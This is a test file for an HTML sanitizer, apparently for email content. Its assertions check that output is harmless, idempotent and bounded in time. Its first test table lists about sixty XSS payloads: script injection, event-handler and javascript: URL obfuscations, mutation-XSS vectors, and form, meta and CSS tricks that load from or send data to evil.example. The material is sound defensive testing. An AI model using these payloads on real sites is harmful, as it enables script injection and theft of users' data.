@@ -1,0 +1,178 @@
+import fc from 'fast-check';
+import { describe, expect, it } from 'vitest';
+import { HTML_CHARS_MAX, sanitizeHtml } from './sanitize.ts';
+
+/** What must not be in any output, however it got there. Text is escaped, so a tag in it shows as `&lt;`. */
+function expectHarmless(html: string) {
+  expect(html).not.toMatch(/<\s*\/?\s*(?!\/?(?:[a-z][a-z0-9]*)[\s/>])/i);
+  expect(html).not.toMatch(
+    /<(?:script|style|svg|math|iframe|object|embed|form|input|button|meta|base|link|template)\b/i,
+  );
+  for (const tag of html.match(/<[^>]*>/g) ?? []) {
+    expect(tag).not.toMatch(/\son[a-z]+\s*=/i);
+    expect(tag).not.toMatch(/(?:href|src)="\s*(?:javascript|vbscript|data:text|blob|file)/i);
+    expect(tag).not.toMatch(/\s(?:id|name|srcset|srcdoc|formaction|action|background|poster|ping|xlink:href)=/i);
+    expect(tag).not.toMatch(/url\(|expression|position\s*:|@import|behavior|-moz-binding/i);
+  }
+}
+
+describe('sanitizeHtml', () => {
+  it.each([
+    '<script>alert(1)</script>',
+    '<scr<script>ipt>alert(1)</scr</script>ipt>',
+    '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
+    '<img src=x onerror=alert(1)>',
+    '<img src="x" ONERROR\n=\n"alert(1)">',
+    '<img/src="x"/onerror="alert(1)">',
+    '<a href="javascript:alert(1)">x</a>',
+    '<a href="JaVaScRiPt:alert(1)">x</a>',
+    '<a href="&#106;&#97;&#118;&#97;script:alert(1)">x</a>',
+    '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)">x</a>',
+    '<a href="java\tscript:alert(1)">x</a>',
+    '<a href="java&NewLine;script&colon;alert(1)">x</a>',
+    '<a href=" \x01javascript:alert(1)">x</a>',
+    '<a href="vbscript:msgbox(1)">x</a>',
+    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
+    '<a href="blob:https://a.example/x">x</a>',
+    '<a href="/relative">x</a><a href="//host.example">x</a><a href="x.html">x</a>',
+    '<img src="data:image/svg+xml;base64,PHN2Zy8+">',
+    '<img src="data:text/html;base64,AAAA">',
+    '<img srcset="https://evil.example/x.png 1x">',
+    '<img src="javascript:alert(1)" data-src="javascript:alert(2)">',
+    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
+    '<iframe src="https://evil.example"></iframe>',
+    '<object data="x"></object><embed src="x"><applet code="x"></applet>',
+    '<svg><script>alert(1)</script></svg>',
+    '<svg onload=alert(1)>',
+    '<svg><animate attributeName=href values=javascript:alert(1) /></svg>',
+    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
+    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
+    '<math><annotation-xml encoding="text/html"><script>alert(1)</script></annotation-xml></math>',
+    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
+    '<form action="https://evil.example"><input name=password><button formaction=x>go</button></form>',
+    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
+    '<base href="https://evil.example/">',
+    '<link rel="stylesheet" href="https://evil.example/x.css">',
+    '<style>@import "https://evil.example/x.css"; body { display: none }</style>',
+    '<div style="background:url(https://evil.example/x)">x</div>',
+    '<div style="background:u\\72l(https://evil.example/x)">x</div>',
+    '<div style="width:expression(alert(1))">x</div>',
+    '<div style="width:exp/**/ression(alert(1))">x</div>',
+    '<div style="position:fixed;top:0;left:0;width:100%;height:100%">x</div>',
+    '<div style="margin-top:-500px">x</div>',
+    '<div style="behavior:url(x.htc);-moz-binding:url(x.xml)">x</div>',
+    '<div style="color:red;x:&quot;}</style><script>alert(1)</script>">x</div>',
+    '<div id="root" name="body" class="modal fixed">x</div>',
+    '<template><img src=x onerror=alert(1)></template>',
+    '<xmp><img src=x onerror=alert(1)></xmp><plaintext><img src=x onerror=alert(1)>',
+    '<textarea></textarea><img src=x onerror=alert(1)></textarea>',
+    '<title><img src=x onerror=alert(1)></title>',
+    '<!--[if gte mso 9]><script>alert(1)</script><![endif]-->',
+    '<!--><img src=x onerror=alert(1)>-->',
+    '<![CDATA[<img src=x onerror=alert(1)>]]>',
+    '<?xml version="1.0"?><?php echo 1 ?>',
+    '<a href="https://a.example" onclick="x" target="_top" rel="opener" ping="https://evil.example">x</a>',
+    '<table background="https://evil.example/x.png"><tr><td background="x">x</td></tr></table>',
+    '<video poster="x" src="x" onerror=alert(1)></video><audio src=x onerror=alert(1)>',
+    '<details open ontoggle=alert(1)>x</details>',
+    '<x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>',
+    '<img src="cid:x" alt="`onerror=alert(1)">',
+    '<<img src=x onerror=alert(1)//<b>',
+    '<a href="https://a.example/&quot; onmouseover=&quot;alert(1)">x</a>',
+  ])('disarms %s', (html) => {
+    const clean = sanitizeHtml(html);
+    expectHarmless(clean.replace(/="[^"]*"/g, (value) => value.replace(/\son[a-z]+\s*=/gi, ' ')));
+    expect(sanitizeHtml(clean)).toBe(clean);
+  });
+
+  it.each([
+    [
+      '<p>A <b>bold</b> <a href="https://a.example/?a=1&amp;b=2">link</a></p>',
+      '<p>A <b>bold</b> <a href="https://a.example/?a=1&amp;b=2" rel="noopener noreferrer nofollow" target="_blank">link</a></p>',
+    ],
+    [
+      '<a href="mailto:a@example.com">x</a>',
+      '<a href="mailto:a@example.com" rel="noopener noreferrer nofollow" target="_blank">x</a>',
+    ],
+    ['<img src="cid:one@x" alt="a">', '<img alt="a" src="cid:one@x" />'],
+    ['<img src="data:image/png;base64,AAAA">', '<img src="data:image/png;base64,AAAA" />'],
+    ['<img src="https://a.example/x.png">', '<img data-src="https://a.example/x.png" />'],
+    ['<img src="//a.example/x.png">', '<img data-src="https://a.example/x.png" />'],
+    [
+      '<span style="color: #FF0000; font-family:\'Arial\', sans-serif; position: absolute">x</span>',
+      '<span style="color:#FF0000;font-family:\'Arial\', sans-serif">x</span>',
+    ],
+    ['<div class="gmail_quote big">x</div>', '<div class="gmail_quote">x</div>'],
+    ['<td bgcolor="#fff" width="10">x</td>', '<td bgcolor="#fff" width="10">x</td>'],
+    ['<style>p{}</style><title>t</title>a < b & c', 'a &lt; b &amp; c'],
+    ['<p>open <b>tags', '<p>open <b>tags</b></p>'],
+    ['a\0b', 'ab'],
+  ])('keeps what is fit of %s', (html, expected) => {
+    expect(sanitizeHtml(html)).toBe(expected);
+  });
+
+  it('is harmless and idempotent for any markup', () => {
+    const pieces = fc.constantFrom(
+      ...[
+        '<',
+        '>',
+        '</',
+        '/>',
+        '"',
+        "'",
+        '=',
+        ' ',
+        '<!--',
+        '-->',
+        '<![CDATA[',
+        'svg',
+        'math',
+        'style',
+        'script',
+        'img',
+      ],
+      ...[
+        'src',
+        'href',
+        'javascript:',
+        'onerror',
+        'a',
+        'p',
+        'table',
+        'title',
+        'template',
+        '&lt;',
+        '&#x3c;',
+        '&quot;',
+        'x',
+      ],
+    );
+    fc.assert(
+      fc.property(fc.array(pieces, { maxLength: 40 }), (list) => {
+        const clean = sanitizeHtml(list.join(''));
+        expect(clean).not.toMatch(/<(?:script|style|svg|math|template|title)/i);
+        expect(clean.replace(/="[^"]*"/g, '')).not.toMatch(/<[^>]*onerror/i);
+        expect(sanitizeHtml(clean)).toBe(clean);
+      }),
+      { numRuns: 2_000 },
+    );
+  });
+
+  it.each([
+    ['nested div', '<div>'.repeat(500_000)],
+    ['nested b and text', '<b>x'.repeat(300_000)],
+    ['closing tags', '</p>'.repeat(300_000)],
+    ['attributes', `<p ${'a=b '.repeat(250_000)}>`],
+    ['styles', `<p style="${'color:red;'.repeat(90_000)}">`],
+    ['small styles', '<p style="color:red;margin:0">x</p>'.repeat(30_000)],
+    ['open comments', '<!--'.repeat(250_000)],
+    ['entities', '&#106;'.repeat(160_000)],
+    ['open brackets', '<'.repeat(1_000_000)],
+    ['data images', `<img src="data:image/png;base64,${'A'.repeat(900_000)}">`],
+    ['more than is read', 'x'.repeat(HTML_CHARS_MAX * 5)],
+  ])('takes bounded time and stack for %s', (_name, html) => {
+    const startedAt = performance.now();
+    expect(sanitizeHtml(html).length).toBeLessThan(HTML_CHARS_MAX * 6);
+    expect(performance.now() - startedAt).toBeLessThan(3_000);
+  });
+});
